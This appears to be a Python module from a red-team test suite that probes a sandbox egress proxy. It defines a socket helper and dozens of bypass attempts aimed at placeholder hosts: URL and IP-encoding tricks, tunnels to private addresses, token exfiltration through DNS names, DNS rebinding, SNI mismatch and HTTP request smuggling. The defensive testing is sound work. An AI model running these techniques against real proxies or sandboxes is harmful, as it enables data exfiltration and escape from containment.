"""Attacks on a box's door: what could be reached through the proxy, by any way of asking, that no rule allows."""

from collections.abc import Iterator
from typing import Final

from ay_bot.host.redteam import Attack, Off, Seen
from ay_bot.host.redteam.egress_target import PRIVATE

ASK: Final = r'''
def ask(data, *more, size=65536):
    """Send bytes to the proxy, then more of them after each answer; print what comes back."""
    got = b""
    try:
        with socket.create_connection(("127.0.0.1", 3128), timeout=3) as proxy:
            for part in (data, *more):
                proxy.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
                got = proxy.recv(size)
                print(got[:60])
    except OSError as error: print("no answer:", error)
    return got
def get(url, host="open.example", method="GET", rest=""):
    return ask(f"{method} {url} HTTP/1.1\r\nHost: {host}\r\n{rest}\r\n")
def connect(target, *more):
    return ask(f"CONNECT {target} HTTP/1.1\r\nHost: open.example\r\n\r\n", *more)
def hello(name, token=b""):
    """Return the first message of a TLS client that asks for a name."""
    raw = name.encode()
    names = struct.pack(">BH", 0, len(raw)) + raw
    extension = struct.pack(">HHHH", 6 + len(names), 0, 2 + len(names), len(names)) + names
    body = b"\x03\x03" + bytes(32) + bytes([len(token)]) + token + b"\x00\x02\x13\x01\x01\x00" + extension
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message
def plain(path="/" + TOKEN, host="open.example"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"
'''

NUMBER: Final = int.from_bytes(bytes(int(part) for part in PRIVATE.split(".")), "big")
URLS: Final = (  # how, and where it asks for; the token must not get anywhere that is private
    ("name", "http://denied.example/TOKEN", "a host that no rule names"),
    ("suffix", "http://open.example.denied.example/TOKEN", "an allowed name as the beginning of another"),
    ("prefix", "http://notopen.example/TOKEN", "an allowed name as the end of another"),
    ("below", "http://sub.open.example/TOKEN", "a name below one that is allowed exactly"),
    ("above", "http://example/TOKEN", "a name above one that is allowed"),
    ("wildcard", "http://rebind.example.denied.example/TOKEN", "a wildcard's name as the beginning of another"),
    ("user", "http://open.example@denied.example/TOKEN", "an allowed name as a user's"),
    ("password", "http://open.example:80@denied.example/TOKEN", "an allowed name and port as a user's with a password"),
    ("null", "http://denied.example%00.open.example/TOKEN", "a coded null in a name"),
    ("dot", "http://denied.example%2eopen.example/TOKEN", "a coded dot in a name"),
    ("underscore", "http://open_example.denied.example/TOKEN", "a name with an underscore"),
    ("address", f"http://{PRIVATE}/TOKEN", "an address"),
    ("decimal", f"http://{NUMBER}/TOKEN", "an address as one number"),
    ("hexadecimal", f"http://{NUMBER:#x}/TOKEN", "an address in hexadecimal"),
    ("octal", "http://0177.011.0.02/TOKEN", "an address in octal"),
    ("short", "http://127.589826/TOKEN", "an address of two parts"),
    ("address-dot", f"http://{PRIVATE}./TOKEN", "an address with a final dot"),
    ("own", "http://127.9.0.1:8022/TOKEN", "an address with a port"),
    ("port", "http://open.example:8022/TOKEN", "another port of an allowed host"),
    ("private", "http://inner.example/TOKEN", "an allowed name that stands for a private address"),
    ("private-dot", "http://INNER.example./TOKEN", "such a name in capitals and with a final dot"),
    ("port-private", "http://inner.example:8022/TOKEN", "another port of a private address"),
)
METHODS: Final = ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "LOCK")
TUNNELS: Final = (
    ("name", "denied.example:443", "a host that no rule names"),
    ("port", "open.example:8022", "another port of an allowed host"),
    ("address", f"{PRIVATE}:443", "an address"),
    ("decimal", f"{NUMBER}:443", "an address as one number"),
    ("private", "inner.example:443", "an allowed name that stands for a private address"),
    ("zeros", "open.example:08022", "another port with a leading zero"),
)
OTHERS: Final[tuple[tuple[str, str, Seen, str], ...]] = (
    (
        "host-header", 'get("http://denied.example/" + TOKEN, host="open.example")', "strayed",
        "a forbidden host under an allowed Host header",
    ),
    (
        "two-hosts", 'get("http://denied.example/" + TOKEN, rest="Host: denied.example\\r\\n")', "strayed",
        "two Host headers",
    ),
    ("dns", 'get(f"http://{TOKEN}.denied.example/")', "asked", "a name as a message to a name server"),
    ("dns-tunnel", 'connect(f"{TOKEN}.denied.example:443")', "asked", "such a name for a tunnel"),
    ("dns-port", 'get(f"http://{TOKEN}.rebind.example:8022/")', "asked", "such a name with a port that nobody asks"),
    ("dns-method", 'get(f"ftp://{TOKEN}.rebind.example/")', "asked", "such a name with another scheme"),
    (
        "redirect",
        ('got = get(f"http://open.example/redirect/inner.example/{TOKEN}")\n'
        'if b"Location: " in got: get(got.split(b"Location: ")[1].split()[0].decode())'),
        "strayed",
        "a redirection to a private address",
    ),
    (
        "rebinding",
        ('name = f"{TOKEN}.rebind.example"\nget(f"http://{name}/first", host=name); time.sleep(2.2)\n'
        'for _ in range(3): get(f"http://{name}/{TOKEN}", host=name, rest="Cache-Control: no-cache\\r\\n")'),
        "strayed",
        "a name that stands for a private address from the second question on",
    ),
    (
        "rebinding-tunnel",
        ('name = f"{TOKEN}.rebind.example"\nget(f"http://{name}/first", host=name); time.sleep(2.2)\n'
        "connect(f'{name}:443', hello(name, TOKEN.encode()[:32])); connect(f'{name}:443', plain())"),
        "strayed",
        "such a name, asked by a tunnel after plain http",
    ),
    (
        "sni", 'connect("open.example:443", hello("denied.example") + TOKEN.encode())', "arrived",
        "TLS for another name inside of an allowed tunnel",
    ),
    (
        "sni-none", 'connect("open.example:443", hello("") + TOKEN.encode())', "arrived",
        "TLS for no name inside of an allowed tunnel",
    ),
    ("not-tls", 'connect("open.example:443", plain())', "arrived", "what is no TLS inside of an allowed tunnel"),
    (
        "not-tls-early", 'ask("CONNECT open.example:443 HTTP/1.1\\r\\n\\r\\n" + plain())', "arrived",
        "what is no TLS, sent before the answer",
    ),
    (
        "pipelined",
        'ask(plain("http://open.example/") + plain("http://denied.example/" + TOKEN, "denied.example"), "", "")',
        "strayed",
        "a second request behind an allowed one",
    ),
    (
        "smuggled-length",
        (
            'rest = "POST http://open.example/" + TOKEN + " HTTP/1.1\\r\\nHost: open.example\\r\\n\\r\\n"\n'
            'head = f"Host: open.example\\r\\nContent-Length: {len(rest)}\\r\\nTransfer-Encoding: chunked"\n'
            'ask(f"GET http://open.example/ HTTP/1.1\\r\\n{head}\\r\\n\\r\\n0\\r\\n\\r\\n{rest}", "", "")'
        ),
        "arrived",
        "a request hidden by two lengths",
    ),
    (
        "smuggled-chunks",
        ('get("http://open.example/", rest="Transfer-Encoding: chunked\\r\\n\\r\\n" + f"{len(TOKEN):x}\\r\\n{TOKEN}'
        '\\r\\n0\\r\\n")'),
        "arrived",
        "a body in chunks in a request that only reads",
    ),
    (
        "lone-line-feeds",
        ('ask("GET http://open.example/ HTTP/1.1\\nHost: open.example\\n\\nGET http://denied.example/" + TOKEN '
        '+ " HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n", "", "")'),
        "strayed",
        "a second request behind lone line feeds",
    ),
    (
        "huge-header", 'get("http://open.example/", rest="X-Long: " + "x" * 40_000 + TOKEN + "\\r\\n")', "arrived",
        "a header of 40 kB",
    ),
    (
        "cache-manager",
        'got = get("cache_object://proxy/info", host="proxy")\nif b" 200 " in got[:16]: effect("the proxy tells")',
        "said",
        "the proxy's own pages",
    ),
)  # fmt: skip
SENT: Final = """
much = bytes(1 << 19)
connect("open.example:443", hello("open.example"), much, much, much + 3 * TOKEN.encode(), *[b""] * 12)
"""
RECEIVED: Final = r"""
total = 0
for _ in range(12):
    try:
        with socket.create_connection(("127.0.0.1", 3128), timeout=5) as proxy:
            wanted = plain("http://open.example/bytes/1048576", "open.example\r\nConnection: close")
            proxy.sendall(wanted.encode())
            while data := proxy.recv(1 << 20): total += len(data)
    except OSError as error: print("no answer:", error)
effect(f"{total} bytes came") if total > 8 << 20 else print(total, "bytes came")
"""


def _attack(name: str, program: str, seen: Seen, about: str, *, alone: bool = False) -> Attack:
    return Attack(
        id=f"door-{name}",
        category="door",
        about=f"through the proxy: {about}",
        program=f"{ASK}\n{program}",
        off=(Off.PROXY,),
        seen=seen,
        door=True,
        alone=alone,
    )


def _attacks() -> Iterator[Attack]:
    for name, url, about in URLS:
        yield _attack(f"url-{name}", f"get({url!r}.replace('TOKEN', TOKEN))", "strayed", about)
    for method in METHODS:
        program = f"get('http://open.example/' + TOKEN, method={method!r})"
        yield _attack(f"method-{method.lower()}", program, "arrived", f"{method} in plain http")
    for name, target, about in TUNNELS:
        yield _attack(f"tunnel-{name}", f"connect({target!r}, plain())", "strayed", f"a tunnel to {about}")
    for name, program, seen, about in OTHERS:
        yield _attack(name, program, seen, about)
    yield _attack("bytes-sent", SENT, "arrived", "more bytes than may be sent", alone=True)
    yield _attack("bytes-received", RECEIVED, "said", "more bytes than may come", alone=True)


ATTACKS: Final = tuple(_attacks())
